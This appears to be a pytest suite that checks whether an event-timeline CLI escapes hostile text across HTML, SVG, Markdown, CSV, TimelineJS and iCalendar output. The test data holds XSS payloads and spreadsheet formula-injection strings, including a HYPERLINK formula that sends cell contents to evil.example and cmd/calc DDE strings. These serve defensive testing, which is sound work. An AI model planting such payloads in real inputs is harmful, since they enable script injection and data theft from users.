"""One corpus of hostile strings, valid in a store, through every output format.

Each format is read back by what its readers use: HTML and SVG by a parser (no handler
attributes, no script the page did not bring itself), Markdown by a CommonMark renderer
(markdown-it, which passes raw HTML through as GitHub's and pandoc's do), CSV by the csv
module with the spreadsheet rule (no cell a spreadsheet would run), TimelineJS as the HTML
that TimelineJS makes of each text field, iCalendar by icalendar."""

from __future__ import annotations

import csv
import html
import io
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import icalendar
import pytest
from markdown_it import MarkdownIt

from conftest import Cli
from helpers import event, write_store

HOSTILE = [
    "<svg onload=alert(1)>",
    "<script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[click](javascript:alert(4))",
    "<a href='javascript:alert(5)'>x</a>",
    "*bold* _em_ `code` | pipe # hash",
    "</p><h1 onclick=alert(6)>big</h1>",
    "{{ 7*7 }} {% raw %} ${7*7}",
    "END:VEVENT; BEGIN:VALARM, x\\n",
    "]]><!-- -->",
    "&amp; &lt;script&gt;",
]
URLS = [
    "https://example.org/x><script>alert(7)</script>",
    'https://example.org/a"onmouseover="alert(8)',
    "https://example.org/)](javascript:alert(9))",
    "https://example.org/=cmd|'/C%20calc'!A0",
    "https://example.org/<b>?q=<i/onmouseover=alert(10)>",
]
SHORT = "<svg onload=alert(11)>"  # at most 24 characters


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    partners: list[dict[str, object]] = [
        {
            "id": "evil",
            "name": HOSTILE[1],
            "short": SHORT,
            "kind": "other",
            "country": "DE",
            "website": URLS[0],
        },
        {"id": "rvr", "name": HOSTILE[3], "short": "=1+1", "kind": "region", "country": "DE"},
    ]
    topics: list[dict[str, object]] = [
        {"id": "youth", "label": {"de": HOSTILE[4], "en": HOSTILE[6]}},
        {"id": "mobility", "label": {"de": "Mobilität", "en": "Mobility"}},
    ]
    events = []
    for i, text in enumerate(HOSTILE):
        events.append(
            event(
                f"e{i}",
                f"2019-0{1 + i % 9}-1{i % 9}",
                ["evil", "rvr"],
                title={"de": text, "en": text},
                summary={"de": text, "en": f"{text}\n{HOSTILE[-1 - i]}"},
                location={"name": text, "city": HOSTILE[(i + 1) % len(HOSTILE)], "country": "DE"},
                people=[{"name": text, "role": {"de": text, "en": text}}],
                sources=[
                    {"url": URLS[i % len(URLS)], "publisher": text, "title": text, "language": "en"}
                ],
            )
        )
    path = tmp_path_factory.mktemp("hostile") / "store.yaml"
    return write_store(path, events, partners, topics, title={"de": HOSTILE[0], "en": HOSTILE[2]})


class Page(HTMLParser):
    """Tags, attributes, script bodies and links of an HTML or SVG page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [f"{tag} {k}={v}" for k, v in attrs if k.startswith("on")]
        self.links += [v for k, v in attrs if k in ("href", "src", "xlink:href") and v]
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def page(text: str) -> Page:
    parsed = Page()
    parsed.feed(text)
    parsed.close()
    return parsed


def assert_harmless(text: str) -> Page:
    parsed = page(text)
    assert parsed.handlers == []
    assert not any("alert(" in script or "calc" in script for script in parsed.scripts)
    for link in parsed.links:
        assert link.startswith(("https://", "http://", "#", "webcal://", "data:")) or (
            "/" not in link and ":" not in link
        ), link
    return parsed


HTML_COMMANDS = [
    ["report", "2019", "--format", "html"],
    ["timeline", "--format", "html"],
    ["report", "2019", "--format", "markdown"],
    ["list", "--format", "markdown"],
    ["partners", "--format", "markdown"],
    ["topics", "--format", "markdown"],
]


@pytest.mark.parametrize("command", HTML_COMMANDS, ids=lambda c: "-".join(c))
def test_pages_and_markdown_render_no_markup_from_the_store(
    cli: Cli, hostile_store: Path, command: list[str]
) -> None:
    result = cli(*command, "--store", str(hostile_store))
    assert result.exit_code == 0, result.stderr
    rendered = result.stdout
    if "markdown" in command:
        # CommonMark with raw HTML on: whatever the text did not escape would come through.
        rendered = MarkdownIt("commonmark").render(result.stdout)
    parsed = assert_harmless(rendered)
    assert "img" not in parsed.tags and ("svg" not in parsed.tags or "timeline" in command)
    if "report" in command and "markdown" in command:
        # Every source stays one link, to the address the store gives.
        links = {unquote(link) for link in parsed.links}
        assert {unquote(url) for url in URLS} <= links


def test_feed_set_pages(cli: Cli, hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "feeds"
    result = cli("feeds", "build", str(out), "--store", str(hostile_store))
    assert result.exit_code == 0, result.stderr
    for name in ("index.html", "timeline.html"):
        assert_harmless((out / name).read_text(encoding="utf-8"))
    calendar: Any = icalendar.Calendar.from_ical((out / "all.en.ics").read_bytes())
    summaries = sorted(str(e["SUMMARY"]) for e in calendar.walk("VEVENT"))
    assert summaries == sorted(HOSTILE)


def test_svg(cli: Cli, hostile_store: Path) -> None:
    result = cli("timeline", "--format", "svg", "--store", str(hostile_store))
    assert result.exit_code == 0, result.stderr
    root = ET.fromstring(result.stdout)
    for element in root.iter():
        assert not element.tag.endswith("script")
        assert not [k for k in element.attrib if k.lower().startswith("on")]
    assert HOSTILE[0] in "".join(root.itertext())


def test_timelinejs_text_is_the_html_it_becomes(cli: Cli, hostile_store: Path) -> None:
    result = cli("export", "timelinejs", "--store", str(hostile_store))
    assert result.exit_code == 0, result.stderr
    document = json.loads(result.stdout)
    for slide in document["events"]:
        # TimelineJS sets each of these as innerHTML.
        group = page(slide["group"])
        assert group.tags == [] and html.unescape(slide["group"]) == SHORT
        for field in (slide["text"]["headline"], slide["text"]["text"]):
            parsed = assert_harmless(field)
            assert set(parsed.tags) <= {"p", "ol", "li", "a"}
        assert page(slide.get("display_date", "")).tags == []
    assert page(document["title"]["text"]["headline"]).tags == []


def _csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for value in row.values():
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(value)  # only a plain number may start like a formula
    return rows


@pytest.mark.parametrize(
    "command",
    [
        ["list", "--format", "csv"],
        ["partners", "--format", "csv"],
        ["topics", "--format", "csv"],
        ["report", "2019", "--format", "csv"],
    ],
    ids=lambda c: "-".join(c),
)
def test_csv_cells_never_run_as_formulas(cli: Cli, hostile_store: Path, command: list[str]) -> None:
    result = cli(*command, "--store", str(hostile_store))
    assert result.exit_code == 0, result.stderr
    rows = _csv(result.stdout)
    values = {v.removeprefix("'") for row in rows for v in row.values()}
    if command[0] in ("list", "report"):
        assert set(HOSTILE) <= values  # the apostrophe is the only change
    elif command[0] == "partners":
        assert {HOSTILE[3], "=1+1", SHORT} <= values
    else:
        assert {HOSTILE[4], HOSTILE[6]} <= values


def test_json_and_icalendar_keep_the_text_as_written(cli: Cli, hostile_store: Path) -> None:
    listed = json.loads(cli("list", "--format", "json", "--store", str(hostile_store)).stdout)
    assert sorted(e["title"]["en"] for e in listed) == sorted(HOSTILE)
    assert {s["url"] for e in listed for s in e["sources"]} == set(URLS)
    report = json.loads(cli("report", "2019", "-f", "json", "--store", str(hostile_store)).stdout)
    assert sorted(e["title"]["en"] for e in report["events"]) == sorted(HOSTILE)
    ics = cli("export", "ics", "--store", str(hostile_store)).stdout_bytes
    calendar: Any = icalendar.Calendar.from_ical(ics)
    assert sorted(str(e["SUMMARY"]) for e in calendar.walk("VEVENT")) == sorted(HOSTILE)
